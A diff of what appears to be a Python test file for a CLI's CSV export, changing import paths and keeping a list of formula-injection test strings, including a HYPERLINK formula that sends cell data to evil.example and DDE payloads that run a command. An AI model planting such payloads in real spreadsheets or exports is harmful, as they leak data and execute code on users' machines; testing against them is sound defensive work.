@@ -10,8 +10,9 @@ from click.testing import CliRunner
 from csv_rows import write_csv
 
 from cli import main
-from geo import _files, directory_io, settings
-from geo.directory_io import default_dir
+from core import files as _files, settings
+from directory import io as directory_io
+from directory.io import default_dir
 
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")  # fmt: skip
